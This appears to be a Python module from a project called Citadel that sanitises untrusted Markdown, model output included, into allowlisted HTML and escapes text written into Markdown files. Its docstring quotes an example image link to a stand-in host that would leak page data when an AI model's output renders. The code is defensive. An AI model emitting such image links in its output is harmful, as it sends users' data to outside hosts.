"""Markdown from untrusted hands (model output, documents) as HTML that is safe to show, and
untrusted text written into a Markdown file that other programs will render.

markdown-it-py renders with raw HTML disabled; nh3 then keeps only an allowlist of tags and
attributes, so even a bug in the renderer cannot put a script, a handler or a style on the page.
Images never load: they become their alt text, because `![x](https://evil.example/?q=secret)`
written by a model would otherwise send page data to another host the moment the page renders.
Links keep http(s) and mailto only and get rel="noopener noreferrer nofollow".

A Markdown file leaves Citadel, and the viewer that renders it is not ours: many pass raw HTML
through and follow any link. So text written into one is made inert (`markdown_inert`) instead.
"""

import re
from html import escape

import nh3
from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

ALLOWED_TAGS = {
    "p",
    "br",
    "hr",
    "em",
    "strong",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "th": {"align"}, "td": {"align"}}
URL_SCHEMES = {"http", "https", "mailto"}
LINK_REL = "noopener noreferrer nofollow"


def _image_as_text(self: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    return escape(f"[image: {alt}]" if alt else "[image]")


def _renderer() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False}).enable(
        ["table", "strikethrough"]
    )
    md.add_render_rule("image", _image_as_text)
    return md


_MD = _renderer()

# "<" opens every tag, comment and autolink; "&" only matters where it starts an entity, which a
# viewer would decode. A "]" right before "(", "[" or ":" closes a link's or an image's text or
# names a link definition. Each becomes an entity: viewers show entities as text and never read
# them as Markdown, and a backslash before one cannot undo it, as it could undo a backslash escape.
_TAG_OPEN = re.compile(r"<")
_ENTITY = re.compile(r"&(?=#?[0-9A-Za-z]+;)")
_LINK_CLOSE = re.compile(r"\](?=[(\[:])")


def sanitize_html(html: str) -> str:
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes=URL_SCHEMES,
        link_rel=LINK_REL,
        strip_comments=True,
    )


def render_markdown(text: str) -> str:
    """Safe HTML for Markdown `text` (None and non-strings render as their string form)."""
    return sanitize_html(_MD.render("" if text is None else str(text)))


def markdown_inert(text: str) -> str:
    """`text` to write into a Markdown file so that no viewer makes HTML, a link or an image of
    it; emphasis and lists still render, and it still reads as written in plain text."""
    text = _ENTITY.sub("&amp;", text)
    return _LINK_CLOSE.sub("&#93;", _TAG_OPEN.sub("&lt;", text))
